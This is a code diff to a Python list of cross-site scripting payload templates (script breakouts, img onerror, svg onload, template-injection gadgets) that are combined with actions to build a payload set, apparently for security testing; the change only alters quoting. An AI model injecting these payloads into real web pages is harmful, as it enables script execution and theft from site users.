@@ -17,7 +17,7 @@ _SHAPES = [
     "</textarea><script>{}</script>",
     "<img src=x onerror={}>",
     "<img src='http://127.0.0.1:9/i.png' onload={}>",
-    "\"><img src=x onerror={}>",
+    '"><img src=x onerror={}>',
     "'><svg onload={}>",
     "<svg><script>{}</script></svg>",
     "<svg><animate onbegin={} attributeName=x dur=1s>",
@@ -36,7 +36,7 @@ _SHAPES = [
     "{{constructor.constructor({})()}}",
     "${{}}",
     "\\u003cscript\\u003e{}\\u003c/script\\u003e",
-    "\"}}]}};{};//",
+    '"}}]}};{};//',
     "\u2028{}\u2029</script\t><script >{}</script >",
 ]
 PAYLOADS = [shape.replace("{}", act) for shape in _SHAPES for act in _ACTS]
